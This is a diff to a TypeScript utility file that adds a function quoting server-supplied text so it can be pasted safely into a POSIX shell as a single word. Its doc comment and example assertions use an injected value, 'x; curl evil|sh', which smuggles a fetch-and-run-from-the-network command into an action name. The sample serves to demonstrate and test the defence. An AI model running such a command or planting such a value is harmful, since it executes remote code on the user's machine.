@@ -45,6 +45,34 @@ export function printable(text: string): string {
   return text.replace(CONTROLS, escape);
 }
 
+/** What a POSIX shell takes as one word, as it is: no quoting needed. */
+const SHELL_WORD = /^[A-Za-z0-9._:/@-]+$/;
+
+/**
+ * The text, {@linkcode printable}, as one word to paste into a POSIX
+ * shell: as it is when every character is one of `A-Za-z0-9._:/@-`, in
+ * single quotes otherwise (a `'` written `'\''`), so that a server's
+ * action named `x; curl evil|sh` is shown as a name, never as commands.
+ *
+ * @example
+ * ```ts
+ * import { shellWord } from "./printable.ts";
+ * import assert from "node:assert/strict";
+ *
+ * assert.equal(shellWord("users.get"), "users.get");
+ * assert.equal(shellWord("x; curl evil|sh"), "'x; curl evil|sh'");
+ * assert.equal(shellWord("it's"), "'it'\\''s'");
+ * assert.equal(shellWord(""), "''");
+ * ```
+ *
+ * @param text Text from a server.
+ * @returns It, safe to print and to paste as one shell word.
+ */
+export function shellWord(text: string): string {
+  const shown = printable(text);
+  return SHELL_WORD.test(shown) ? shown : `'${shown.replaceAll("'", "'\\''")}'`;
+}
+
 /**
  * A value as JSON that is safe to print: `JSON.stringify` escapes C0
  * controls but leaves DEL and the C1 controls raw, so those are escaped too
